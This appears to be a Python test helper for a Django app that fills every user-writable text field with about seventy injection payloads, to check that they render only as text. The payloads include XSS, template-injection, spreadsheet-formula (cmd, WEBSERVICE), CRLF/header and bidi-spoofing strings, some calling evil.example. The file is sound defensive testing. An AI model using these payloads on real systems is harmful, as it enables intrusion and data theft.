# ruff: noqa: E501, Q003, RUF001  the payloads are what they are
"""What somebody types who means ill, put into every text that a person may write."""

import re
from collections.abc import Iterator
from unicodedata import east_asian_width

from django.apps import apps
from django.db import models

PAYLOADS = (
    # Elements
    *("<script>alert(7)</script>", "</script><script>alert(7)</script>", "<ScRiPt src=//evil.example/x.js>", "<img src=x onerror=alert(7)>"),
    *("<svg/onload=alert(7)>", "<svg><script>alert(7)</script></svg>", "<svg><a xlink:href=javascript:alert(7)>x", "<math><mi xlink:href=javascript:alert(7)>"),
    *("<iframe src=javascript:alert(7)>", "<iframe srcdoc='<script>alert(7)</script>'>", "<object data=javascript:alert(7)>", "<embed src=//evil.example>"),
    *("<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>"),
    *("<form action=//evil.example><input name=a>", "<button formaction=javascript:alert(7)>x", "<details open ontoggle=alert(7)>", "<body onload=alert(7)>"),
    *("<a href=javascript:alert(7)>x</a>", "<video><source onerror=alert(7)>", "<input autofocus onfocus=alert(7)>", "<marquee onstart=alert(7)>"),
    *("<template><script>alert(7)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(7)>'>", "<x onclick=alert(7)>x", "<plaintext>"),
    # Ways out of where a text stands
    *("\"><script>alert(7)</script>", "'><img src=x onerror=alert(7)>", "\" onmouseover=alert(7) x=\"", "' onfocus=alert(7) autofocus='", "` onload=alert(7)"),
    *("</title><script>alert(7)</script>", "</textarea><script>alert(7)</script>", "</style><script>alert(7)</script>", "</option></select><img src=x onerror=alert(7)>"),
    *("--><script>alert(7)</script>", "]]><script>alert(7)</script>", "</svg><img src=x onerror=alert(7)>", "</td></tr></table><script>alert(7)</script>", "<!--", "<![CDATA["),
    # Addresses, styles, templates
    *("javascript:alert(7)", "java\tscript:alert(7)", "data:text/html,<script>alert(7)</script>", "vbscript:msgbox(7)", "//evil.example/", "/\\evil.example"),
    *("<style>*{background:url(//evil.example)}</style>", "\" style=\"position:fixed;inset:0", "expression(alert(7))", "hx-get=//evil.example", "\" hx-get=\"//evil.example\" hx-trigger=\"load"),
    *("{{7*7}}", "{% debug %}", "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(x)s %s %n {0}", "{x.__class__}"),
    # Encodings of the same
    *("&lt;script&gt;alert(7)&lt;/script&gt;", "&#60;script&#62;alert(7)", "\\u003cscript\\u003ealert(7)", "%3Cscript%3Ealert(7)", "＜script＞alert(7)＜/script＞", "<scr<script>ipt>alert(7)"),
    # Sheets, headers, calendars, directions of writing
    *("=cmd|'/c calc'!A1", "+1+cmd|'/c calc'!A1", "-2+3", "@SUM(1+1)", "=HYPERLINK(\"//evil.example\",\"x\")", "\t=1+1", "=WEBSERVICE(\"//evil.example\")"),
    *("x\r\nBcc: all@evil.example", "x\nSet-Cookie: a=b", "x\r\n\r\n<script>alert(7)</script>", "x\r\nEND:VEVENT\r\nBEGIN:VALARM", "x\\nATTENDEE:mailto:a@evil.example", "x;a=b:c,d"),
    *("\u202egpj.exe", "\u2066x\u2069", "\u200b\u200b", "\u2028\u2029alert(7)"),
)  # fmt: skip
"""Seventy-odd; none of them is to be anything but text."""

MADE_BY_THE_HOUSE = {
    "AuditEvent": "appended only; the tests let deeds fill it",
    "PastPassword": "hashes",
    "DoorCount": "only counted; what was typed at the door is never shown to anybody but the auditors",
    "CalendarFeed": "a hash",
    "Heartbeat": "names of duties",
    "KeptBoard": "numbers, and a word that says how they are laid out",
    "Briefing": "made of the others; the tests issue one",
    "SheetUpload.rows": "the tests type them",
}
NOT_TYPED = {"key", "sha256", "message_id", "password", "file", "kind", "comparator", "lead_days", "cycle_lead_days", "username"}  # fmt: skip
"""Columns that the house writes, or that take only what their own rule lets through."""

Typed = tuple[type[models.Model], models.Field]


def typed_fields() -> Iterator[Typed]:
    """Every text that a person may write: a new one joins by itself."""
    for model in apps.get_app_config("pledges").get_models():
        if model.__name__ in MADE_BY_THE_HOUSE:
            continue
        for field in model._meta.concrete_fields:
            is_text = isinstance(field, models.CharField | models.TextField)
            if (
                is_text
                and not isinstance(field, models.SlugField)
                and not field.choices
                and field.name not in NOT_TYPED
            ):
                yield model, field


def named(typed: Typed) -> str:
    return f"{typed[0].__name__}.{typed[1].name}"


def text_for(number: int, turn: int, longest: int | None) -> str:
    """The text of one field in one turn: all that fits, beginning with another payload for each field and turn."""
    first = (number * 7 + turn * 19) % len(PAYLOADS)
    rolled = PAYLOADS[first:] + PAYLOADS[:first]
    if longest is None or longest >= 1000:
        return " ".join(rolled)[: longest or 6000]
    fitting = next((payload for payload in rolled if len(payload) <= longest), rolled[0])
    rest = " ".join(payload for payload in rolled if payload != fitting)
    return f"{fitting} {rest}"[:longest].rstrip()


def harmless(text: str) -> str:
    """As long and as wide, with the same gaps, and nothing in it."""
    return "".join(one if one.isspace() else "甲" if east_asian_width(one) in "WF" else "x" for one in text)


def address_for(text: str, *, is_harmless: bool) -> str:
    """The mail addresses that pass every check and are markup all the same."""
    inner = re.sub(r"[^!#-\[\]-~]", "", text)[:50] or "x"
    return f"{'x' * len(inner)}yy@example.com" if is_harmless else f'"{inner}"@example.com'


def fill(turn: int, *, is_harmless: bool = False) -> set[str]:
    """Write into every text that is there. Returns the fields of which there was a row."""
    found = set()
    for number, (model, field) in enumerate(typed_fields()):
        text = text_for(number, turn, field.max_length)
        if isinstance(field, models.EmailField):
            text = address_for(text, is_harmless=is_harmless)
        elif is_harmless:
            text = harmless(text)
        for place, row in enumerate(model._base_manager.exclude(**{field.name: ""}).order_by("pk")):
            is_alone = place and (field.unique or is_unique_with_others(model, field))
            said = f"{place}{text}"[: field.max_length] if is_alone else text
            model._base_manager.filter(pk=row.pk).update(**{field.name: said})
            found.add(named((model, field)))
    return found


def is_unique_with_others(model: type[models.Model], field: models.Field) -> bool:
    return any(field.name in getattr(each, "fields", ()) for each in model._meta.constraints)
